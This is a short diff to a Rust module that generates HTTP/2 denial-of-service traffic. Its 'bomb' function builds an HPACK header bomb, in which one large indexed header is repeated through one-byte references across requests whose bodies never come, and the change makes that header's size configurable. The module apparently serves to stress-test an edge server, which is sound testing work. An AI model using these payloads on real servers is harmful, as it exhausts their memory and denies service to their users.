@@ -118,9 +118,9 @@ pub fn floods(edge: &Edge) -> Vec<(&'static str, Vec<u8>, Repeat)> {
     ]
 }
 
-/// A header bomb: requests whose bodies never come, each with so many fields of which all but the first are one byte
-/// on the wire, a reference to the first (RFC 7541 §6.1).
-pub fn bomb(edge: &Edge, path: &str, requests: u32, fields: usize) -> Vec<u8> {
+/// A header bomb: requests whose bodies never come, each with so many fields with a value of so many bytes, of which all
+/// but the first are one byte on the wire, a reference to the first (RFC 7541 §6.1).
+pub fn bomb(edge: &Edge, path: &str, requests: u32, fields: usize, value: usize) -> Vec<u8> {
     let mut bytes = PREFACE.to_vec();
     frame(&mut bytes, SETTINGS, 0, 0, &[]);
     for number in 0..requests {
@@ -128,7 +128,7 @@ pub fn bomb(edge: &Edge, path: &str, requests: u32, fields: usize) -> Vec<u8> {
         if number == 0 {
             head.push(0x40); // literal, to be indexed, new name
             string(&mut head, b"x");
-            string(&mut head, &[b'v'; 200]);
+            string(&mut head, &vec![b'v'; value]);
         }
         head.resize(head.len() + fields, 0xbe); // the newest of the dynamic table
         frame(&mut bytes, HEADERS, END_HEADERS, 2 * number + 1, &head);
